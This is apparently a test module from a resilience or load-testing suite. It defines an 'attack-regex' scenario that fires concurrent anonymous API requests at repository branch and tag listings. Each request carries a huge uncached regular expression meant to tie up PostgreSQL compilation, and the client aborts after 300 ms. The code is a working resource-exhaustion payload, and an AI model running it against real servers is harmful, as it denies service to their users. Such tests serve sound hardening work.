import { attack } from './attack.js';
import { ATTACKER } from './ground.js';

const AT_ONCE = 10;
const LEAVE_AFTER_MS = 300;
const ALTERNATIVES = 600;

const anyOf = (alternative: (word: string) => string) =>
  Array.from({ length: ALTERNATIVES }, (_, index) => alternative(index.toString(36))).join('|');
/** As many states as PostgreSQL accepts, all of them adjacent: seconds to compile. */
const EXPRESSIONS = [`(${anyOf((word) => `a{0,7}${word}`)})*`, `(${anyOf((word) => `(.*.*${word})`)})*`];

/** Anonymous lists of branches and tags by slow expressions, aborted by the client. */
export const regex = attack({
  name: 'attack-regex',
  prepare: (ground) => ground.newProject(ATTACKER),
  async run(attackers, { id }) {
    let count = 0;
    await attackers.several(AT_ONCE, async (attacker) => {
      const list = attacker % 2 === 0 ? 'branches' : 'tags';
      count += 1;
      // Each one new, so that none is found compiled.
      const expression = encodeURIComponent(`${EXPRESSIONS[count % EXPRESSIONS.length]}x${count}`);
      const path = `/api/v4/projects/${id}/repository/${list}?regex=${expression}`;
      await attackers.ask({ path, leaveAfterMs: LEAVE_AFTER_MS });
    });
  },
});
